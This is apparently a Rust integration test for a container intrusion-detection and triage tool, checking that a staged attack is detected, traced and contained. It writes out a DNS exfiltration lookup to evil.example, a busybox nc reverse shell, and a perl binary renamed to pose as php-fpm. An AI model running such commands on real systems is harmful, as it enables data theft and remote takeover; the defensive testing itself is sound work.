//! An intrusion as triage sees it: a web server is made to run a shell, which looks a long name up and gives itself to somebody
//! in another network namespace; an operator freezes the container, lets it go on, and ends it.

use std::{thread::sleep, time::Duration};

use anyhow::{Context, Result, ensure};
use portcullis_integration_tests::{containerd::Container, eventually::eventually, node::Node, signals::Signal};
use serde_json::Value;

use crate::contain::{join, leave_running};

/// Whoever waits for the shell: has it say something again and again, and counts that.
const LISTEN: &str = "\
socket(S, 2, 1, 0) or die; setsockopt(S, 1, 2, 1); bind(S, pack('S n x12', 2, 4444)) or die; listen(S, 5); accept(C, S) or die;
syswrite(C, \"while :; do echo x; sleep 0.1; done\\n\");
while (sysread(C, $b, 1)) { next if $b ne 'x'; $n++; open(F, '>/tmp/n.new'); print F $n; close F; rename('/tmp/n.new', '/tmp/n') }
open(F, '>/tmp/ended')";

/// The label that carries something out.
const LABEL: &str = "73656372657420746f6b656e2061626364656667686970717273";

/// What the web server is made to execute.
fn request() -> String {
    format!(
        "nslookup -type=TXT -timeout=1 -retry=0 {LABEL}.evil.example 127.0.0.1 >/dev/null; \
         until busybox nc 10.99.0.2 4444 -e /bin/sh; do sleep 0.2; done"
    )
}

/// By a JSON pointer; null for what is not there.
fn at<'a>(value: &'a Value, pointer: &str) -> &'a Value {
    value.pointer(pointer).unwrap_or(&Value::Null)
}

fn told<'a>(story: &'a Value, key: &str) -> Result<&'a Vec<Value>> {
    story.get(key).and_then(Value::as_array).with_context(|| format!("no {key}: {story:#}"))
}

/// The numbers of the processes from the first one to the reverse shell, by what they executed.
fn is_one_tree(story: &Value) -> Result<()> {
    let processes = told(story, "processes")?;
    let by_number = |number: &Value| processes.iter().find(|process| at(process, "/number") == number);
    let shell = processes
        .iter()
        .rev()
        .find(|process| *at(process, "/argv/0") == "/bin/sh" && at(process, "/signalIds/0").is_u64());
    let mut words = Vec::new();
    let mut next = shell;
    while let Some(process) = next {
        words.push(at(process, "/argv/0").as_str().unwrap_or_default().to_owned());
        next = by_number(at(process, "/parent"));
    }
    ensure!(
        words.starts_with(&["/bin/sh", "busybox", "sh", "/tmp/php-fpm"].map(str::to_owned)),
        "{words:?}: {story:#}"
    );
    Ok(())
}

fn signal<'a>(signals: &'a [Signal], what: &str) -> Result<&'a Signal> {
    let found = signals.iter().find(|signal| signal.rule == what || signal.tool() == what);
    found.with_context(|| format!("no signal about {what}: {signals:#?}"))
}

/// On both backends: a connection by TCP, and a question in a tool's arguments.
fn destinations_and_novelty_are_told(story: &Value) -> Result<()> {
    let timeline = told(story, "timeline")?;
    let question = format!("asks DNS for TXT of {LABEL}.evil.example");
    for expected in ["connects to TCP 10.99.0.2:4444", &question] {
        let is_it = |event: &&Value| at(event, "/text").as_str().is_some_and(|text| text.starts_with(expected));
        let event = timeline.iter().find(is_it).with_context(|| format!("{expected} is not told: {story:#}"))?;
        ensure!(*at(event, "/kind") == "network" && *at(event, "/process") != 0, "{event:#}");
    }
    for signal in told(story, "signals")?.iter().filter(|signal| at(signal, "/process").is_object()) {
        ensure!(at(signal, "/novelty/summary").as_str().is_some_and(|summary| !summary.is_empty()), "{signal:#}");
    }
    ensure!(!told(story, "habits")?.is_empty(), "{story:#}");
    Ok(())
}

pub fn triage_tells_one_story(node: &Node) -> Result<()> {
    let container = node.container().start()?;
    let listener = node.container().start()?;
    join(&container, &listener)?;
    leave_running(&listener, "perl -e", LISTEN)?;
    container.exec(&["cp", "/usr/bin/perl", "/tmp/php-fpm"])?.success()?;
    leave_running(&container, "/tmp/php-fpm -e", &format!("system('{};')", request()))?;

    let count = || -> Result<u64> { Ok(listener.exec(&["cat", "/tmp/n"])?.success()?.stdout.trim().parse()?) };
    let goes_on = || -> Result<()> {
        let before = eventually(count)?;
        eventually(|| {
            ensure!(count()? > before, "the shell says nothing more");
            Ok(())
        })
    };
    goes_on().context("before")?;
    let signals = node.signals_until(container.id(), "reverse_shell")?;
    let shell = signal(&signals, "reverse_shell")?;
    let nc = signal(&signals, "nc")?;
    let remote = shell.remote.as_ref().context("no other end")?;
    ensure!((remote.address.as_str(), remote.port) == ("10.99.0.2", 4444), "{shell:#?}");

    frozen_released_and_ended(node, &container, &listener, &count, &goes_on, nc.id)?;

    let story: Value = node.json(&["triage", &nc.id.to_string()])?;
    ensure!(*at(&story, "/signal/id") == nc.id && *at(&story, "/container/id") == container.id(), "{story:#}");
    is_one_tree(&story)?;
    let ids: Vec<u64> = told(&story, "signals")?.iter().filter_map(|signal| at(signal, "/id").as_u64()).collect();
    for what in ["nslookup", "nc", "reverse_shell"] {
        ensure!(ids.contains(&signal(&signals, what)?.id), "{what} is not in the story: {story:#}");
    }
    destinations_and_novelty_are_told(&story)?;
    let text = node.portcullis(&["triage", &nc.id.to_string()])?.success()?.stdout;
    let parts =
        ["Processes", "/tmp/php-fpm", "Timeline", "investigating, says", "(freeze)", "release of", "(kill)", "Next"];
    let found = |part: &&str| text.find(part).with_context(|| format!("{part} is not told: {text}"));
    let places: Vec<_> = parts.iter().map(found).collect::<Result<_>>()?;
    ensure!(places.is_sorted(), "{places:?}: {text}");
    for part in [LABEL, "busybox nc 10.99.0.2 4444 -e /bin/sh", "reverse_shell", "connected to 10.99.0.2:4444"] {
        ensure!(text.contains(part), "{part} is not told: {text}");
    }
    let whole: Value = node.json(&["triage", container.id(), "--container"])?;
    ensure!(at(&whole, "/signal").is_null() && told(&whole, "signals")?.len() >= ids.len(), "{whole:#}");
    listener.delete()?;
    container.delete()
}

/// The story's first advice is to freeze the container. What is advised is done, as it is told.
fn frozen_released_and_ended(
    node: &Node,
    container: &Container<'_>,
    listener: &Container<'_>,
    count: &dyn Fn() -> Result<u64>,
    goes_on: &dyn Fn() -> Result<()>,
    nc: u64,
) -> Result<()> {
    let nc = nc.to_string();
    let said = node.portcullis(&["triage", "set", &nc, "--state", "investigating", "--note", "a shell"])?.success()?;
    ensure!(said.stdout == format!("signal {nc}: investigating\n"), "{said}");
    let story: Value = node.json(&["triage", &nc])?;
    let advice: Vec<&str> = told(at(&story, "/nextSteps/0"), "command")?.iter().filter_map(Value::as_str).collect();
    let [program, freeze @ ..] = &advice[..] else { anyhow::bail!("no advice: {story:#}") };
    ensure!(*program == "portcullis" && freeze.contains(&"--freeze"), "{story:#}");
    node.portcullis(freeze)?.success()?;
    // What was under way has come by then.
    sleep(Duration::from_millis(500));
    let frozen = count()?;
    sleep(Duration::from_millis(500));
    ensure!(count()? == frozen, "a frozen shell has said something");
    node.portcullis(&["release", container.id()])?.success()?;
    goes_on().context("released")?;
    node.portcullis(&["contain", container.id(), "--kill"])?.success()?;
    eventually(|| {
        listener.exec(&["cat", "/tmp/ended"])?.success()?;
        Ok(())
    })
    .context("the connection stays")
}
